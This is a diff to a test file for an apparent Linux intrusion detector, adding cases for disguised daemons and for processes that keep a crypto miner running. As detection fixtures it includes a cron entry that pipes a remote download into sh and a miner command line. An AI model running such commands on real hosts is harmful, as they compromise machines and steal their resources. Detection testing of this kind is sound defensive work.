@@ -63,6 +63,8 @@ describe('each signal fires on what it names', () => {
     ['fake-kernel-thread', seen(p(opt, { comm: 'kswapd0' }))],
     ['daemon-name-mismatch', seen(p('/tmp/a', { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www' }))],
     ['daemon-name-mismatch', seen(p('/var/tmp/sshd'))],
+    ['interpreter-as-daemon', seen(p('/usr/bin/perl', { cmdline: '/usr/sbin/httpd', argv0: '/usr/sbin/httpd' }))],
+    ['worker-without-master', seen(p(opt, { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www', ppid: 1 }))],
     ['hidden-from-host-ps', seen(p(opt, { inHostPs: 'no' }), aProcess(1, '/usr/bin/a'), aProcess(2, '/usr/bin/b'))],
     ['hidden-from-readdir', seen(p(opt, { inReaddir: 'no' }))],
     ['over-mounted', seen(p(opt, { overMounted: true }))],
@@ -288,5 +290,52 @@ describe('lineage', () => {
     const plain = aProcess(63, '/usr/local/bin/upd')
     const line = aSchedule('/etc/cron.d/upd', 1, 'curl -s http://203.0.113.9/a | sh; /usr/local/bin/upd')
     expect(signalsOf(found(judged([plain, line]), 'process')[0])).toEqual(['from-hostile-schedule'])
+  })
+})
+
+describe('disguised daemons', () => {
+  const fpm = '/usr/sbin/php-fpm8.2'
+  const title = { cmdline: 'php-fpm: pool www', argv0: 'php-fpm: pool www' }
+
+  it('are not workers whose master runs the same executable', () => {
+    const master = aProcess(40, fpm, { cmdline: 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)' })
+    expect(seen(p(fpm, { ...title, ppid: 40 }), master)).not.toContain('worker-without-master')
+    expect(seen(p('/usr/bin/perl', { ...title, ppid: 40 }), master)).toContain('worker-without-master')
+  })
+
+  it('are not scripts under their own name, nor applets of busybox', () => {
+    const own = [
+      p('/usr/bin/python3.11', { cmdline: '/usr/bin/python3 /usr/bin/fail2ban-server', argv0: '/usr/bin/python3' }),
+      p('/usr/bin/dash', { cmdline: '-sh', argv0: '-sh' }),
+      p('/bin/busybox', { cmdline: 'crond -f', argv0: 'crond' }),
+      p(fpm, title),
+    ]
+    for (const one of own) expect(seen(one)).not.toContain('interpreter-as-daemon')
+  })
+
+  it('lose the protection of the interpreter’s package: what runs is the script', () => {
+    const perl = aFile('/usr/bin/perl', 'perl-base')
+    expect(seen(p('/usr/bin/perl', { cmdline: 'perl', argv0: 'perl' }), perl)).toContain('package-owned')
+    const bot = p('/usr/bin/perl', { cmdline: '/usr/sbin/httpd', argv0: '/usr/sbin/httpd' })
+    expect(seen(bot, perl)).not.toContain('package-owned')
+  })
+})
+
+describe('who keeps a hostile process', () => {
+  const miner = aProcess(60, '/var/tmp/.x/m', { cmdline: `./m -o stratum+tcp://a.example:443 -u ${wallet}`, ppid: 50 })
+  const about = (keeper: ReturnType<typeof aProcess>) =>
+    found(judged([aMachine, keeper, miner]), 'process').find(({ params }) => params['pid'] === 50)
+
+  it('is told when no package vouches for its code', () => {
+    const keeper = p('/usr/bin/dash', { cmdline: '/bin/sh /opt/.run/superv', argv0: '/bin/sh' })
+    expect(about(keeper)?.reasons.map(({ signal }) => signal)).toContain('keeps-hostile')
+  })
+
+  it('is not a login shell, a scheduler or PID 1', () => {
+    for (const keeper of [
+      p('/usr/bin/bash', { cmdline: '-bash', argv0: '-bash' }),
+      p('/usr/sbin/cron', { cmdline: '/usr/sbin/cron -f' }),
+    ])
+      expect(about(keeper)?.reasons.map(({ signal }) => signal) ?? []).not.toContain('keeps-hostile')
   })
 })
